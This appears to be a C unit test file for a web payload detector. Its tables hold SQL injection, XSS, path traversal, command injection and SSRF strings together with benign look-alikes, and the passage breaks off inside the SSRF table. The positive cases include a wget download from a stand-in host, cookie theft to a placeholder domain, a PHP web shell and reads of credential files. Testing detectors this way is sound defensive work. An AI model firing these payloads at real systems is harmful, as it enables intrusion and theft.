/* test_payload.c - payload detectors: unit tables per detector (positive and
 * negative), decoding evasions, the splitters, detection rates on the
 * public payload lists and zero matches on the benign corpus. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "collector/detect/payload.h"



static int has_kind(const char *v, unsigned where, enum payload_kind k)
{
	struct payload_match m[PAYLOAD__COUNT];
	int n = payload_scan(v, strlen(v), where, m, PAYLOAD__COUNT);
	for (int i = 0; i < n; i++)
		if (m[i].kind == k)
			return 1;
	return 0;
}

struct vcase {
	const char *name;
	const char *in;
	unsigned where;
	enum payload_kind want; /* PAYLOAD_NONE: must produce no match at all */
};

static void run_table(const struct vcase *t, size_t n)
{
	int bad = 0;
	for (size_t i = 0; i < n; i++) {
		struct payload_match m[PAYLOAD__COUNT];
		int k = payload_scan(t[i].in, strlen(t[i].in), t[i].where, m, PAYLOAD__COUNT);
		int ok;
		if (t[i].want == PAYLOAD_NONE)
			ok = k == 0;
		else
			ok = has_kind(t[i].in, t[i].where, t[i].want);
		if (!ok) {
			bad++;
			fprintf(stderr, "  FAIL %s: got %d match(es)%s%s%s\n", t[i].name, k,
				k ? " first=" : "", k ? payload_kind_names[m[0].kind] : "",
				k ? "" : "");
			if (k)
				fprintf(stderr, "       why: %s (%d)\n", m[0].why, m[0].score);
		}
	}
	assert_int_equal(bad, 0);
}

#define Q PAYLOAD_WHERE_QUERY
#define P PAYLOAD_WHERE_PATH

static void test_sqli_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"tautology after quote", "admin' or '1'='1", Q, PAYLOAD_SQLI},
		{"tautology after dquote", "x\" or \"a\"=\"a", Q, PAYLOAD_SQLI},
		{"numeric tautology", "1 or 1=1", Q, PAYLOAD_SQLI},
		{"paren tautology", "1') or ('a'='a", Q, PAYLOAD_SQLI},
		{"comment truncation", "admin'--", Q, PAYLOAD_SQLI},
		{"hash truncation", "bob' #", Q, PAYLOAD_SQLI},
		{"union select list", "1 union select 1,2,3", Q, PAYLOAD_SQLI},
		{"union all select from", "' union all select password from users--", Q, PAYLOAD_SQLI},
		{"union select null", "-1 UNION SELECT NULL", Q, PAYLOAD_SQLI},
		{"stacked drop", "1; drop table users", Q, PAYLOAD_SQLI},
		{"stacked after break", "x'; delete from accounts;--", Q, PAYLOAD_SQLI},
		{"stacked exec", "1;exec master..xp_cmdshell 'dir'", Q, PAYLOAD_SQLI},
		{"sleep", "1 and sleep(5)", Q, PAYLOAD_SQLI},
		{"pg_sleep concat", "'||pg_sleep(10)--", Q, PAYLOAD_SQLI},
		{"waitfor", "1;waitfor delay '0:0:10'--", Q, PAYLOAD_SQLI},
		{"benchmark", "benchmark(5000000,md5(1))", Q, PAYLOAD_SQLI},
		{"information_schema", "1 and (select count(*) from information_schema.tables)>0", Q, PAYLOAD_SQLI},
		{"char in boolean", "1 AND ASCII(SUBSTRING(user(),1,1))>64", Q, PAYLOAD_SQLI},
		{"order by probe", "1 order by 5--", Q, PAYLOAD_SQLI},
		{"break then order by", "x' ORDER BY 3#", Q, PAYLOAD_SQLI},
		{"concat after break", "a'||'b", Q, PAYLOAD_SQLI},
		{"having tautology", "1 having 1=1--", Q, PAYLOAD_SQLI},
		{"like tautology", "' or username like '%", Q, PAYLOAD_SQLI},
		{"versioned comment", "1 /*!50000union*/ /*!50000select*/ 1,2", Q, PAYLOAD_SQLI},
		{"into outfile", "1 union select 'x' into outfile '/tmp/x'", Q, PAYLOAD_SQLI},
		{"backtick context", "x`) AND 7705=7705 AND (`a`=`a", Q, PAYLOAD_SQLI},
		{"paren break balance", "2)) AND IF('a'='a',1,0) AND ((9617=9617", Q, PAYLOAD_SQLI},
		{"empty value paren break", ")))|| 5716=5716#", Q, PAYLOAD_SQLI},
		{"numeric make_set", "1 AND MAKE_SET(LENGTH(DATABASE())=10,4457)-- -", Q, PAYLOAD_SQLI},
		{"symbol booleans only", "1 && 4402=4402", Q, PAYLOAD_SQLI},
		{"rlike subquery", "2\" RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", Q, PAYLOAD_SQLI},
		{"inline case", "(CASE WHEN (5059>5058) THEN 4014 ELSE NULL END)", Q, PAYLOAD_SQLI},
		{"inline select elt", "(SELECT CONCAT(0x71,(ELT(8732=8732,1)),0x71))", Q, PAYLOAD_SQLI},
		{"concat subquery", "'||(SELECT 1 FROM (SELECT(SLEEP(5)))a)||'", Q, PAYLOAD_SQLI},
		{"not between", "1) AND 9454 NOT BETWEEN 0 AND 9453 AND (1226=1226", Q, PAYLOAD_SQLI},
		{"latin1 nbsp", "1'%A0AND%A0SLEEP(5)%A0AND%A0'a'='a", Q, PAYLOAD_SQLI},
		{"mssql blank", "1%01AND%015=5", Q, PAYLOAD_SQLI},
		{"pg copy program", "1';COPY t FROM PROGRAM 'id'--", Q, PAYLOAD_SQLI},
		{"sqlite attach", "1;ATTACH DATABASE '/tmp/x.php' AS x--", Q, PAYLOAD_SQLI},
		{"mssql if waitfor", "1;IF(1=1) WAITFOR DELAY '0:0:5'--", Q, PAYLOAD_SQLI},
		{"order by subquery", "id desc,(select (case when (1=1) then 1 else 2 end))", Q, PAYLOAD_SQLI},
		{"procedure analyse", "1 LIMIT 1 PROCEDURE ANALYSE(1,1)", Q, PAYLOAD_SQLI},
		{"chained comparison", "admin'='admin", Q, PAYLOAD_SQLI},
		{"break probe", "7,)\"(.'.,(\"", Q, PAYLOAD_SQLI},
		{"regexp literals", "abc AND 1 REGEXP 1", Q, PAYLOAD_SQLI},
		{"number glued to union", "1e0UNION ALL SELECT NULL,version()-- -", Q, PAYLOAD_SQLI},
		{"oracle d literal", "-1.0DUNION SELECT NULL FROM DUAL--", Q, PAYLOAD_SQLI},
		{"asp percent letters", "1 %U%N%I%O%N %S%E%L%E%C%T 1,2,3-- -", Q, PAYLOAD_SQLI},
		{"floor rand error", "9 GROUP BY CONCAT(user(),FLOOR(RAND(0)*2))#", Q, PAYLOAD_SQLI},
		{"union paren select from", "1') LIMIT 1,1 UNION(SELECT username) FROM DUAL-- x", Q, PAYLOAD_SQLI},
		{"select a plan", "select a plan", Q, PAYLOAD_NONE},
		{"drop by", "drop by anytime; we're open", Q, PAYLOAD_NONE},
		{"union station", "Union Station, Chicago", Q, PAYLOAD_NONE},
		{"1 or 2 items", "1 or 2 items", Q, PAYLOAD_NONE},
		{"irish name", "O'Brien", Q, PAYLOAD_NONE},
		{"its", "it's a 'great' day or so", Q, PAYLOAD_NONE},
		{"sort expr", "name asc", Q, PAYLOAD_NONE},
		{"filter text", "price < 5 and rating > 4", Q, PAYLOAD_NONE},
		{"quote and hash", "Don't forget issue #42 -- thanks", Q, PAYLOAD_NONE},
		{"true or false", "true or false", Q, PAYLOAD_NONE},
		{"sleep words", "I need sleep (8 hours)", Q, PAYLOAD_NONE},
		{"english union select", "the union select committee", Q, PAYLOAD_NONE},
		{"semicolon select", "options; select one", Q, PAYLOAD_NONE},
		{"numbered list", "1) and 2) are both fine", Q, PAYLOAD_NONE},
		{"smiley parens", "great)) and thanks", Q, PAYLOAD_NONE},
		{"spreadsheet if", "=IF(A1>B1, \"yes\", \"no\")", Q, PAYLOAD_NONE},
		{"case when prose", "in case when you arrive, then call", Q, PAYLOAD_NONE},
		{"select in parens", "(select one, two or three)", Q, PAYLOAD_NONE},
		{"copy prose", "copy this from the doc", Q, PAYLOAD_NONE},
		{"if prose", "if (you can) call me", Q, PAYLOAD_NONE},
		{"version note", "5.1 and 5.2 (beta) or later", Q, PAYLOAD_NONE},
		{"sleep prose", "sleep(8) hours a night", Q, PAYLOAD_NONE},
		{"lettered list compare", "a) or b=b", Q, PAYLOAD_NONE},
		{"units glued", "5in x 7in or larger; 3d printer and 4k tv", Q, PAYLOAD_NONE},
		{"list then aside", "red, (select one) or blue", Q, PAYLOAD_NONE},
		{"list then choose", "apples, (select 2)", Q, PAYLOAD_NONE},
		{"quoted equation", "He said 'a'='b' once", Q, PAYLOAD_NONE},
		{"quoted tuple", "x (\"a\", 'b')", Q, PAYLOAD_NONE},
		{"regexp prose", "a regexp b, or two", Q, PAYLOAD_NONE},
		{"percent words", "50%off %sale %now %only", Q, PAYLOAD_NONE},
		{"sleep spaced prose", "(9) sleep (9) or (2)", Q, PAYLOAD_NONE},
		{"jquery selector", "$('#menu').toggle()", Q, PAYLOAD_NONE},
		{"drop table joke", "\"; DROP TABLE\" is a famous joke", Q, PAYLOAD_NONE},
		{"backtick then hash", "`#include` and 'great'", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_xss_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"script tag", "<script>alert(1)</script>", Q, PAYLOAD_XSS},
		{"img onerror", "<img src=x onerror=alert(1)>", Q, PAYLOAD_XSS},
		{"svg onload slash", "<svg/onload=alert(1)>", Q, PAYLOAD_XSS},
		{"quoted attr gt", "<x 1=\">\" onclick=alert(1)>", Q, PAYLOAD_XSS},
		{"attr after quoted value", "<p title='a'onmouseover=prompt(1)>", Q, PAYLOAD_XSS},
		{"javascript href", "<a href=\"javascript:alert(1)\">x</a>", Q, PAYLOAD_XSS},
		{"javascript with tab", "<a href=\"java\tscript:alert(1)\">x</a>", Q, PAYLOAD_XSS},
		{"javascript value", "javascript:alert(document.cookie)", Q, PAYLOAD_XSS},
		{"data html value", "data:text/html;base64,PHNjcmlwdD4=", Q, PAYLOAD_XSS},
		{"iframe", "<iframe src=//evil.example>", Q, PAYLOAD_XSS},
		{"attribute break", "\" onfocus=alert(1) autofocus x=\"", Q, PAYLOAD_XSS},
		{"js string break", "';alert(document.domain)//", Q, PAYLOAD_XSS},
		{"js minus break", "'-confirm(1)-'", Q, PAYLOAD_XSS},
		{"style expression", "<div style=\"width:expression(alert(1))\">", Q, PAYLOAD_XSS},
		{"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//x\">", Q, PAYLOAD_XSS},
		{"unknown tag handler", "<foo onpointerenter=alert(1)>", Q, PAYLOAD_XSS},
		{"details ontoggle", "<details open ontoggle=alert(1)>", Q, PAYLOAD_XSS},
		{"bait tag", "'';!--\"<XSS>=&{()}", Q, PAYLOAD_XSS},
		{"nested element name", "<scrscriptipt>confirm(1)</scrscriptipt>", Q, PAYLOAD_XSS},
		{"nul before handler", "<svg%00onload=confirm(1)>", Q, PAYLOAD_XSS},
		{"nul after unquoted value", "<img%00src=x%00onerror=confirm(1)>", Q, PAYLOAD_XSS},
		{"junk glued to tag name", "<svg};onload=confirm(1)>", Q, PAYLOAD_XSS},
		{"handler slash equals", "<img src='1' onerror/=confirm(0) />", Q, PAYLOAD_XSS},
		{"handler with junk", "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", Q, PAYLOAD_XSS},
		{"handler after newline", "<svg\nonload=alert(1)", Q, PAYLOAD_XSS},
		{"no closing gt", "<img src=x onerror=alert(1)//", Q, PAYLOAD_XSS},
		{"slash in unquoted value", "<img src=x/onerror=alert(1)>", Q, PAYLOAD_XSS},
		{"unquoted attr break", "x onmouseover=alert(1) y=", Q, PAYLOAD_XSS},
		{"slash attr break", "/onfocus=confirm(1) autofocus", Q, PAYLOAD_XSS},
		{"entity tab in unquoted url", "<a href=jav&#x09;ascript:alert(1)>x</a>", Q, PAYLOAD_XSS},
		{"entities no semicolon", "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61(1)>", Q, PAYLOAD_XSS},
		{"comment in scheme", "<img src=\"javas<!-- -->cript:alert(1)\">", Q, PAYLOAD_XSS},
		{"css escapes", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>", Q, PAYLOAD_XSS},
		{"css comment in expression", "<img style=\"x:expr/**/ession(alert(1))\">", Q, PAYLOAD_XSS},
		{"css hex escapes", "<div style=\"background:\\75\\72\\6c(\\6a avascript:alert(1))\">", Q, PAYLOAD_XSS},
		{"style import http", "<style>@import'http://x.example/x.css';</style>", Q, PAYLOAD_XSS},
		{"style behavior element", "<style>*{behavior:url(x.htc)}</style>", Q, PAYLOAD_XSS},
		{"style typed script", "<style type=\"text/javascript\">alert(1)</style>", Q, PAYLOAD_XSS},
		{"meta link", "<meta http-equiv=\"link\" content=\"<//x.example/a.css>; rel=stylesheet\">", Q, PAYLOAD_XSS},
		{"js break find", "';[1].find(alert)//", Q, PAYLOAD_XSS},
		{"js break computed", "\"-top['al'+'ert'](1)-\"", Q, PAYLOAD_XSS},
		{"js break paren", "');this.src='//x.example/'+document.cookie;//", Q, PAYLOAD_XSS},
		{"template literal", "${alert(document.domain)}", Q, PAYLOAD_XSS},
		{"svg animate values", "<svg><animate attributeName=href values=javascript:alert(1) />", Q, PAYLOAD_XSS},
		{"jsfuck", "[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]%2B(![]%2B[])[%2B!%2B[]]%2B(!![]%2B[])[%2B[]]]", Q, PAYLOAD_XSS},
		{"bare dialog call", "alert(document.domain)", Q, PAYLOAD_XSS},
		{"bare call template", "prompt`1`;//", Q, PAYLOAD_XSS},
		{"numeric js context", "1;confirm(document.domain)//", Q, PAYLOAD_XSS},
		{"client template", "{{x.constructor.constructor('confirm(2)')()}}", Q, PAYLOAD_XSS},
		{"utf-7 markup", "%2BADw-img src=1 onerror=x%2BAD4-", Q, PAYLOAD_XSS},
		{"meta utf-7", "<meta http-equiv=content-type content=\"text/html;charset=utf-7\">", Q, PAYLOAD_XSS},
		/* issue 20: constructs found by tools/gen-xss2.py's grammar */
		{"handler slash blank code", "<div onclick/ = alert(1)>", Q, PAYLOAD_XSS},
		{"handler junk underscore", "<x onfocus_!=confirm(1) autofocus>", Q, PAYLOAD_XSS},
		{"slash handler junk past value", "<a href=#/onfocus!#$%0A=alert(1) autofocus>", Q, PAYLOAD_XSS},
		{"pi stylesheet", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", Q, PAYLOAD_XSS},
		{"svg handler element", "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler>", Q, PAYLOAD_XSS},
		{"svg set handler", "<svg><set attributeName=onmouseover to=alert(1)>", Q, PAYLOAD_XSS},
		{"link stylesheet", "<link rel=stylesheet href=//x.example/x.css>", Q, PAYLOAD_XSS},
		{"portal", "<portal src=//x.example>", Q, PAYLOAD_XSS},
		{"css value expression", "x:expression(alert(1))", Q, PAYLOAD_XSS},
		{"css value escaped expression", "\\65xpression(confirm(1))", Q, PAYLOAD_XSS},
		{"css value url", "red;background:url(javascript:alert(1))", Q, PAYLOAD_XSS},
		{"css value import", "@import 'javascript:alert(1)';", Q, PAYLOAD_XSS},
		{"bracket string break", "'];alert(1);//", Q, PAYLOAD_XSS},
		{"modulo string break", "'%prompt(1)%'", Q, PAYLOAD_XSS},
		{"line separator break", "'\xe2\x80\xa8" "alert(1)//", Q, PAYLOAD_XSS},
		{"identifier break", "test1;alert(1)//", Q, PAYLOAD_XSS},
		{"array call break", "1-[1].find(alert)-1", Q, PAYLOAD_XSS},
		{"location member", "\"-window.location.replace('//x.example')-\"", Q, PAYLOAD_XSS},
		{"nul after quote", "\"%00onclick=alert(1) x=\"", Q, PAYLOAD_XSS},
		{"scheme after text", "xJaVaScRiPt:prompt(1)", Q, PAYLOAD_XSS},
		{"escaped quotes around url", "<IMG SRC=\\\"jav&#x0D;ascript:alert('XSS');\\\">", Q, PAYLOAD_XSS},
		{"layer element", "<LAYER SRC=\"//x.example/a.html\"></LAYER>", Q, PAYLOAD_XSS},
		{"nul split element name", "<scri%00pt>alert(1);</scri%00pt>", Q, PAYLOAD_XSS},
		{"hash interpolation", "#{alert(1)}", Q, PAYLOAD_XSS},
		{"cookie passed", "navigator.sendBeacon(u,document.cookie)", Q, PAYLOAD_XSS},
		{"cookie prose", "set cookie via document.cookie = \"a=b\"", Q, PAYLOAD_NONE},
		/* helper A, tools/gen-heldout-web.py: optional calls, open(url),
		 * comparison and 'in' string breaks, framework handler attributes,
		 * SSI and server-page code printing a tag */
		{"heldout 1", "'-alert?.(1)-'", Q, PAYLOAD_XSS},
		{"heldout 2", "${alert?.(1)}", Q, PAYLOAD_XSS},
		{"heldout 3", "\";open('//a.example');var x=\"", Q, PAYLOAD_XSS},
		{"heldout 4", "' in confirm(1) in '", Q, PAYLOAD_XSS},
		{"heldout 5", "'<prompt(document.domain)<'", Q, PAYLOAD_XSS},
		{"heldout 6", "'==(0,alert)(1)=='", Q, PAYLOAD_XSS},
		{"heldout 7", "<div v-on:click=\"alert`1`\">x</div>", Q, PAYLOAD_XSS},
		{"heldout 8", "<div x-init=\"open('//a.example')\"></div>", Q, PAYLOAD_XSS},
		{"heldout 9", "<div hx-on:click=\"window[atob('YWxlcnQ=')](1)\">x</div>", Q, PAYLOAD_XSS},
		{"heldout 10", "<img src=\"&{alert(1)};\">", Q, PAYLOAD_XSS},
		{"heldout 11", "<!--#exec cmd=\"echo '<scr'\"--><!--#exec cmd=\"echo 'ipt>alert(1)</script>'\"-->", Q, PAYLOAD_XSS},
		{"heldout 12", "<?php echo '<scr'.'ipt>alert(1)</scr'.'ipt>'; ?>", Q, PAYLOAD_XSS},
		{"heldout 13", "<% out.print(\"<scr\"+\"ipt>alert(1)</scr\"+\"ipt>\"); %>", Q, PAYLOAD_XSS},
		{"heldout 14", " /onselectstart=alert?.(1) /autofocus", Q, PAYLOAD_XSS},
		{"heldout cdata tag", "<x><![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]></x>", Q, PAYLOAD_XSS},
		{"heldout benign cdata", "<note><![CDATA[if a < b and c > d]]></note>", Q, PAYLOAD_NONE},
		{"global dialog call", "top.alert(1)", Q, PAYLOAD_XSS},
		{"global prompt call", "window.prompt(document.domain)", Q, PAYLOAD_XSS},
		{"rich text print", "<span class=\"a\">print(this page)</span>", Q, PAYLOAD_NONE},
		{"rich text open", "<a href=\"/help\">open('settings')</a>", Q, PAYLOAD_NONE},
		{"global print prose", "window.print (2 copies)", Q, PAYLOAD_NONE},
		{"global confirm prose", "self.confirm your email", Q, PAYLOAD_NONE},
		{"heldout benign 1", "open (9-5) weekdays; \"open\" now", Q, PAYLOAD_NONE},
		{"heldout benign 2", "the 'in' keyword in JS", Q, PAYLOAD_NONE},
		{"heldout benign 3", "\"a\" < \"b\" is true; print it", Q, PAYLOAD_NONE},
		{"heldout benign 4", "x'==y' then confirm (2)", Q, PAYLOAD_NONE},
		{"heldout benign 5", "<?php echo $title; ?>", Q, PAYLOAD_NONE},
		{"heldout benign 6", "<% if user %>welcome<% end %>", Q, PAYLOAD_NONE},
		{"heldout benign 7", ":)  @home  @click here", Q, PAYLOAD_NONE},
		{"heldout benign 8", "Store hours: open('til 9)", Q, PAYLOAD_NONE},
		{"heldout benign 9", "Shop <!--#include virtual nothing--> here", Q, PAYLOAD_NONE},
		{"count interpolation", "#{count} items", Q, PAYLOAD_NONE},
		{"namespaced script", "<x:script>alert(1)</x:script>", Q, PAYLOAD_XSS},
		{"computed global call", "top[\"al\"+\"ert\"](1)", Q, PAYLOAD_XSS},
		{"array index prose", "top[3](see note)", Q, PAYLOAD_NONE},
		{"break after page text", "search 1;confirm`1`", Q, PAYLOAD_XSS},
		{"break into new function", "1-new Function`alert\\x281\\x29`-1", Q, PAYLOAD_XSS},
		{"phone then print", "Call 555-1234; print(receipt) and confirm (2) copies", Q, PAYLOAD_NONE},
		{"less than three", "I <3 cats", Q, PAYLOAD_NONE},
		{"comparisons", "for x<y and y>z", Q, PAYLOAD_NONE},
		{"once upon", "once upon a time; online only", Q, PAYLOAD_NONE},
		{"alert me", "alert me at 5", Q, PAYLOAD_NONE},
		{"javascript developer", "javascript developer, vbscript too", Q, PAYLOAD_NONE},
		{"note expression", "Note: expression(s) are evaluated left to right", Q, PAYLOAD_NONE},
		{"regular expression", "a regular expression(regex) tutorial", Q, PAYLOAD_NONE},
		{"css background", "color: red; background: url(/img/a.png)", Q, PAYLOAD_NONE},
		{"import word", "@import is slow; use link", Q, PAYLOAD_NONE},
		{"bracket prose", "see ['a', 'b']; then print it", Q, PAYLOAD_NONE},
		{"name then paren", "item-3;print (2 copies)", Q, PAYLOAD_NONE},
		{"percent prose", "it's 50% off (today)", Q, PAYLOAD_NONE},
		{"pi declaration", "<?xml version=\"1.0\" encoding=\"utf-8\"?><a>1</a>", Q, PAYLOAD_NONE},
		{"markdown", "**bold** and [link](https://example.com/a?b=1)", Q, PAYLOAD_NONE},
		{"json", "{\"on\":\"load\",\"alert\":1,\"style\":\"url(x)\"}", Q, PAYLOAD_NONE},
		{"script word later", "learn javascript: alert boxes and prompts", Q, PAYLOAD_NONE},
		{"math", "3<5 and 7>2", Q, PAYLOAD_NONE},
		{"bold html", "<b>bold</b> and <i>it</i>", Q, PAYLOAD_NONE},
		{"link html", "<a href=\"https://example.com/docs\">docs</a>", Q, PAYLOAD_NONE},
		{"img html", "<img src=\"cat.png\" alt=\"cat\">", Q, PAYLOAD_NONE},
		{"quote on word", "\"online\" shopping", Q, PAYLOAD_NONE},
		{"arrow", "a -> b <- c", Q, PAYLOAD_NONE},
		{"javascript word", "learn javascript: the good parts", Q, PAYLOAD_NONE},
		{"javascript title", "javascript: the good parts, chapter 3", Q, PAYLOAD_NONE},
		{"svg as a word", "<svg> icons scale well", Q, PAYLOAD_NONE},
		{"feet and inches", "5' 10\" tall; print the form", Q, PAYLOAD_NONE},
		{"onclick prose", "set onclick handler in the options", Q, PAYLOAD_NONE},
		{"online param", "online=yes onsale=true", Q, PAYLOAD_NONE},
		{"template price", "${price} total", Q, PAYLOAD_NONE},
		{"code in backticks", "Use `eval()` sparingly", Q, PAYLOAD_NONE},
		{"quoted then confirm", "\"; confirm your email", Q, PAYLOAD_NONE},
		{"styled span", "<span style=\"color:red\">sale</span>", Q, PAYLOAD_NONE},
		{"jsx handler", "onClick={() => setOpen(true)}", Q, PAYLOAD_NONE},
		{"mustache name", "Dear {{ customer.first_name }},", Q, PAYLOAD_NONE},
		{"plus word", "C++ and +add-ons", Q, PAYLOAD_NONE},
		{"brackets prose", "[see (1)] [and (2)] [or (3)] !!! (yes) [ok] [a] [b] [c] [d]", Q, PAYLOAD_NONE},
		{"number then words", "3;print the page", Q, PAYLOAD_NONE},
		{"button label", "Confirm (2)", Q, PAYLOAD_NONE},
		{"inline svg icon", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M2 7l10 5\"/></svg>", Q, PAYLOAD_NONE},
		{"web font import", "<style>@import url('https://fonts.example/css?family=Roboto');</style>", Q, PAYLOAD_NONE},
		{"namespaced tag", "<b:online=1>yes</b:online>", Q, PAYLOAD_NONE},
		{"mathml formula", "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>", Q, PAYLOAD_NONE},
		{"empty alert", "alert() blocks the page", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_traversal_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"dotdot passwd", "../../../etc/passwd", Q, PAYLOAD_TRAVERSAL},
		{"backslash winini", "..\\..\\windows\\win.ini", Q, PAYLOAD_TRAVERSAL},
		{"encoded dots", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", Q, PAYLOAD_TRAVERSAL},
		{"double encoded", "%252e%252e%252f%252e%252e%252fboot.ini", Q, PAYLOAD_TRAVERSAL},
		{"overlong slash", "..%c0%af..%c0%afetc/passwd", Q, PAYLOAD_TRAVERSAL},
		{"IIS best-fit slash U+EFC8", "..%uEFC8..%uEFC8..%uEFC8etc%uEFC8passwd", Q, PAYLOAD_TRAVERSAL},
		{"IIS best-fit slash U+F025", "..%uF025..%uF025boot.ini", Q, PAYLOAD_TRAVERSAL},
		{"private use code point alone", "%uEFC8 icon", Q, PAYLOAD_NONE},
		{"filter evasion", "....//....//etc/hosts", Q, PAYLOAD_TRAVERSAL},
		{"absolute sensitive", "/etc/shadow", Q, PAYLOAD_TRAVERSAL},
		{"nul byte", "report.pdf%00.jpg", Q, PAYLOAD_TRAVERSAL},
		{"path past root", "/static/../../secret", P, PAYLOAD_TRAVERSAL},
		/* helper A, tools/gen-heldout-web.py: Windows device and share
		 * names, octal escapes, file URLs, Java and PHP wrappers */
		{"device path", "\\\\?\\C:\\users\\administrator\\ntuser.dat", Q, PAYLOAD_TRAVERSAL},
		{"device path slashes", "//./d:/progra~1/mysql/my.ini", Q, PAYLOAD_TRAVERSAL},
		{"device unc", "\\\\?\\UNC\\127.0.0.1\\c$\\autoexec.bat", Q, PAYLOAD_TRAVERSAL},
		{"admin share", "\\\\localhost\\c$\\windows\\debug\\netsetup.log", Q, PAYLOAD_TRAVERSAL},
		{"octal dots", "\\056\\056\\057\\056\\056\\057etc/shadow", Q, PAYLOAD_TRAVERSAL},
		{"file url host form", "file://app/config/database.yml", Q, PAYLOAD_TRAVERSAL},
		{"jar url", "jar:file:///opt/app/app.jar!/BOOT-INF/classes/application.yml", Q, PAYLOAD_TRAVERSAL},
		{"php stdin", "php://stdin", Q, PAYLOAD_TRAVERSAL},
		{"data php", "data:text/plain,<?php system($_GET['c']); ?>", Q, PAYLOAD_TRAVERSAL},
		{"data php base64", "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", Q, PAYLOAD_TRAVERSAL},
		{"short name", "c:/progra~1/app/data.txt", Q, PAYLOAD_TRAVERSAL},
		{"shell rc", "/home/user/.bashrc", Q, PAYLOAD_TRAVERSAL},
		{"docker secret", "/run/secrets/db_password", Q, PAYLOAD_TRAVERSAL},
		{"docker socket", "/var/run/docker.sock", Q, PAYLOAD_TRAVERSAL},
		{"php session", "/tmp/sess_abc123", Q, PAYLOAD_TRAVERSAL},
		{"rc prose", "tips for my .bashrc and docker.sock setup", Q, PAYLOAD_NONE},
		{"image base64 with php letters", "data:image/png;base64,iVBORPD89wahKGgo", Q, PAYLOAD_NONE},
		{"self-service url", "https://www.example.com/proc/self-service", Q, PAYLOAD_NONE},
		{"proc self bare", "/proc/self", Q, PAYLOAD_TRAVERSAL},
		{"docs url windows", "https://example.com/docs/windows/system-requirements", Q, PAYLOAD_NONE},
		{"docs url secrets", "https://example.com/blog/run/secrets/", Q, PAYLOAD_NONE},
		{"url climbing", "https://example.com/static/../../../etc/passwd", Q, PAYLOAD_TRAVERSAL},
		{"jar prose", "Mason jar: 2 cups of flour", Q, PAYLOAD_NONE},
		{"unc share", "\\\\fileserver\\marketing\\q3-plan.docx", Q, PAYLOAD_NONE},
		{"program files prose", "Install to C:\\Program Files\\Acme", Q, PAYLOAD_NONE},
		{"data prose", "data: 5 rows, php: 8.2", Q, PAYLOAD_NONE},
		{"question path", "//?/ means nothing here", Q, PAYLOAD_NONE},
		{"path within root", "/static/css/../img/logo.png", P, PAYLOAD_NONE},
		{"file name", "report-2024.pdf", Q, PAYLOAD_NONE},
		{"relative inside", "docs/guide/intro.md", Q, PAYLOAD_NONE},
		{"version dots", "v1.2.3", Q, PAYLOAD_NONE},
		{"ellipsis text", "wait... what?", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_cmdi_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"semicolon id", "x;id", Q, PAYLOAD_CMDI},
		{"pipe cat", "a | cat /etc/passwd", Q, PAYLOAD_CMDI},
		{"and wget", "1 && wget http://evil.example/x.sh", Q, PAYLOAD_CMDI},
		{"backtick", "`whoami`", Q, PAYLOAD_CMDI},
		{"dollar paren", "$(uname -a)", Q, PAYLOAD_CMDI},
		{"newline", "127.0.0.1%0als -la", Q, PAYLOAD_CMDI},
		{"ifs", ";cat${IFS}/etc/passwd", Q, PAYLOAD_CMDI},
		{"abs path", "|/usr/bin/id", Q, PAYLOAD_CMDI},
		{"sleep arg", "; sleep 10", Q, PAYLOAD_CMDI},
		{"php system", "system('ls')", Q, PAYLOAD_CMDI},
		{"table header", "Name|ID|Email", Q, PAYLOAD_NONE},
		{"rock and roll", "Rock & Roll; cat lovers welcome", Q, PAYLOAD_NONE},
		{"jquery", "$(document).ready", Q, PAYLOAD_NONE},
		{"salt pepper", "salt & pepper | sleep well", Q, PAYLOAD_NONE},
		{"id card", "Tom's & Jerry's; id card", Q, PAYLOAD_NONE},
		{"sleep hours", "price: $5 | sleep 8h", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_ssrf_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"loopback", "http://127.0.0.1:8080/admin", Q, PAYLOAD_SSRF},
		{"localhost", "http://localhost/", Q, PAYLOAD_SSRF},
		{"decimal ip", "http://2130706433/", Q, PAYLOAD_SSRF},
		{"hex ip", "http://0x7f000001/", Q, PAYLOAD_SSRF},
		{"octal ip", "http://0177.0.0.1/", Q, PAYLOAD_SSRF},
		{"metadata", "http://169.254.169.254/latest/meta-data/", Q, PAYLOAD_SSRF},
		{"gce metadata", "http://metadata.google.internal/computeMetadata/v1/", Q, PAYLOAD_SSRF},
		{"aws v6 metadata", "http://[fd00:ec2::254]/latest/", Q, PAYLOAD_SSRF},
		{"v6 loopback", "http://[::1]/", Q, PAYLOAD_SSRF},
		{"mapped v4", "http://[::ffff:127.0.0.1]/", Q, PAYLOAD_SSRF},
		{"private", "https://10.0.0.5/internal", Q, PAYLOAD_SSRF},
		{"private 172", "http://172.20.1.1/", Q, PAYLOAD_SSRF},
		{"userinfo trick", "http://example.com@127.0.0.1/", Q, PAYLOAD_SSRF},
		{"file scheme", "file:///etc/hostname", Q, PAYLOAD_SSRF},
